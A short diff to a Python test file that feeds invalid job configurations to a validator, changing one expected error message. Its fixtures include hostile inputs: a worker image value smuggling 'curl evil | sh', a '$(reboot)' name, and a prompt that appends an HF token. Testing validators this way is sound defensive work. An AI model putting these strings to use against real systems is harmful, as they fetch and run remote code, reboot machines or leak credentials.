@@ -125,7 +125,7 @@ def test_duplicate_event_storm_launches_once(controller, functions_server, bucke
     "content,reason",
     [
         (b"{not json", "not valid JSON"),
-        ({"name": "x", "lora": {"rank": 4}}, "lora.rank: Extra inputs are not permitted"),
+        ({"name": "x", "lora": {"rank": 4}}, "lora.rank: unknown field"),
         ({"cluster": {"worker_image": "ray; curl evil | sh"}}, "cluster.worker_image: String should match pattern"),
         ({"name": "$(reboot)"}, "name: String should match pattern"),
         ({"prompts": {"system": "leak " + HF_TOKEN, "user": "{nope}"}}, "unknown placeholders"),
